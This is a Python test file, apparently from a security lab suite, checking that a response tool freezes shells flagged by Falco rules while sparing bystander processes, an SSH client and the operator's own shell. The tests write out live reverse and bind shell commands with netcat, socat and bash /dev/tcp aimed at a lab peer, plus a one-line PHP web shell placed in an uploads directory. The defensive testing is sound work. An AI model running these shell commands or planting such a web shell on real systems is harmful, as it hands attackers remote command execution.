"""Shells that netcat and socat hand out on a host, and those that a web server starts: they are frozen, and go on."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.lab.places.host import Host
from tests.lab.places.internet import PEER, internet
from tests.lab.places.spot import Spot
from tests.lab.story import Tell

NETCAT = "Netcat/Socat Remote Code Execution on Host"
WEB = "Web Server Spawned Shell"
REVERSE = "Reverse Shell from Web Server"
CHILD = "Web Server Spawned Suspicious Child Process"
RULES = (NETCAT, WEB, REVERSE, CHILD)
KEEP = "Freeze the shells on a connection"


def said(command: str, **more: Any) -> dict[str, Any]:
    """What Falco says of a relay that somebody started on a host, whatever it has become since."""
    name = command.split(maxsplit=1)[0]
    return {
        "container.id": "host",
        "evt.type": "execve",
        "proc.cmdline": command,
        "proc.exepath": f"/usr/bin/{name}",
        "proc.name": name,
        "proc.pname": "systemd",
        "proc.tty": 0,
        "user.loginuid": -1,
        "user.name": "root",
        "user.uid": 0,
        **more,
    }


def holder(host: Host, word: str) -> int:
    """The process that holds the socket whose line has this word."""
    found: list[str] = []

    def look() -> bool:
        found[:] = [line for line in host.run("ss -Htunap").splitlines() if word in line and "pid=" in line]
        return bool(found)

    host.wait_until(look, f"a socket with {word}")
    return int(found[0].split("pid=")[1].split(",")[0])


def test_a_shell_goes_out(booted_host: Host, tell: Tell, tmp_path: Path) -> None:
    host = booted_host
    with internet(host) as far:
        far.listen(4444, into=tmp_path / "got", says="id\n")
        host.start("nc.traditional", "-e", "/bin/sh", PEER, "4444")
        host.wait_until(lambda: "uid=0" in (tmp_path / "got").read_text(), "the peer has a shell")
        shell = holder(host, f"{PEER}:4444")
        bystander = host.start("sh", "-c", "sleep 4321; true")
        with tell(said(f"nc.traditional -e /bin/sh {PEER} 4444"), rule=NETCAT, host=host) as report:
            report.look("Is it connected?", shows=["ESTAB", f"{PEER}:4444"])
            report.contain(KEEP, state=lambda: host.state(shell), becomes="T", shows=f"{shell} T")
            assert host.state(bystander) == "S", "a shell without a connection was stopped"
            kept = f"/root/evidence/{report.uid}"
            assert {f"{kept}/{shell}.exe", f"{kept}/{shell}.environ"} <= host.snapshot(kept).keys()
            assert f"{PEER}:4444" in host.run(f"cat {kept}/sockets.*")
            report.look("What started it?")
            report.undo(state=lambda: host.state(shell), becomes="S")
            host.run(f"kill -KILL {shell}")
            report.again(KEEP, hides=" T ")


@pytest.mark.parametrize(
    "command", ["nc.traditional -l -p 5555 -e /bin/sh", "socat TCP4-LISTEN:5555,fork EXEC:/bin/sh"]
)
def test_a_shell_that_waits_for_a_peer(booted_host: Host, tell: Tell, command: str) -> None:
    host = booted_host
    waiting = host.start(*command.split())
    assert holder(host, ":5555") == waiting
    report = tell(said(command), rule=NETCAT, host=host)
    report.looks(shows=["LISTEN", ":5555"])
    report.contain(KEEP, state=lambda: host.state(waiting) == "T", becomes=True, shows=f"{waiting} T")
    report.undo(state=lambda: host.state(waiting) == "T", becomes=False)


def test_what_socat_started_is_frozen_too(booted_host: Host, tell: Tell, tmp_path: Path) -> None:
    host = booted_host
    with internet(host) as far:
        far.listen(4444, into=tmp_path / "got", says="sleep 4321\n")
        relay = host.start("socat", f"TCP4:{PEER}:4444", "EXEC:/bin/sh")
        host.wait_until(lambda: host.run("pgrep -fx 'sleep 4321' || true"), "the shell has run a program")
        shell = int(host.run(f"pgrep -P {relay}"))
        report = tell(said(f"socat TCP4:{PEER}:4444 EXEC:/bin/sh"), rule=NETCAT, host=host)
        report.looks(shows=f"{PEER}:4444")
        report.contain(KEEP, state=lambda: host.state(relay) + host.state(shell), becomes="TT", shows=f"{shell} T")
        report.undo(state=lambda: host.state(relay) + host.state(shell), becomes="SS")


def test_the_readers_shell_and_ssh_are_spared(booted_host: Host, tell: Tell, tmp_path: Path) -> None:
    host = booted_host
    with internet(host) as far:
        far.listen(4444, into=tmp_path / "got", says="")
        host.terminal("bash").set_up(f"exec 7<>/dev/tcp/{PEER}/4444")
        own = holder(host, '"bash"')
        client = host.start("ssh", "-N", "-o", "StrictHostKeyChecking=no", "-p", "4444", PEER)
        holder(host, '"ssh"')
        report = tell(said("nc -c sh 203.0.113.9 1"), rule=NETCAT, host=host)
        report.again(KEEP, hides=[" T ", f"{own} "])
        assert host.state(own) != "T"
        assert host.state(client) == "S"
        host.terminal("bash").set_up("exec 7>&-")


@pytest.mark.parametrize("rule", [WEB, REVERSE, CHILD])
def test_a_web_servers_shell(spot: Spot, tell: Tell, rule: str) -> None:
    spot.write("/var/www/html/uploads/x.php", "<?php system($_GET[0]);\n")
    spot.place.run("logger 'GET /uploads/x.php'; journalctl --sync")
    pid, other, server = (
        below_a_server(spot.place) if not spot.container else (spot.start("tail", "-f", "/etc/passwd"),) * 3
    )
    fields = spot.fields(pid, fd__type="ipv4", fd__sip=PEER, fd__name=f"10.99.0.2:4000->{PEER}:4444", fd__rip=PEER)
    # Such an alert's command line fits every shell of the host.
    fields |= {"proc.cmdline": "sh", "proc.name": "sh", "proc.exepath": None, "proc.pname": "php-fpm8.2"}
    report = tell(fields, rule=rule, host=spot.place)
    report.looks(shows="html/uploads/x.php", seconds=60)
    place = spot.place
    report.contain(state=lambda: place.state(pid) if not spot.container else stopped(spot), becomes="T")
    if not spot.container:
        assert [place.state(other), place.state(server)] == ["S", "S"], "a bystander or the server was stopped"
        assert (spot.evidence / report.uid / f"{pid}.exe").exists()
    report.undo(state=lambda: place.state(pid) if not spot.container else stopped(spot), becomes="S")


def below_a_server(host: Host) -> tuple[int, int, int]:
    """Start a server whose shell runs a program, and somebody else's shell; return program, shell, server."""
    host.run("cp /bin/bash /usr/sbin/php-fpm8.2; mkfifo /root/in")
    server = host.start("php-fpm8.2", "-c", "sh -c 'tail -f /etc/passwd; true' & wait")
    host.run("sleep 4000 > /root/in 2>/dev/null & sh < /root/in >/dev/null 2>&1 &")
    host.wait_until(
        lambda: "tail" in host.run("ps -C tail -o args= || true"), "the server's shell has started its program"
    )
    return int(host.run("pgrep -fx 'tail -f /etc/passwd'")), int(host.run("pgrep -fx sh")), server


def stopped(spot: Spot) -> str:
    """The state of a whole container: T where the kernel has frozen it."""
    assert spot.container is not None
    group = spot.place.run(f"sed -n 's/^0:://p' /proc/{spot.container.pid}/cgroup").strip()
    frozen = "frozen 1" in spot.place.read(f"/sys/fs/cgroup/unified{group}/cgroup.events")
    return "T" if frozen else "S"
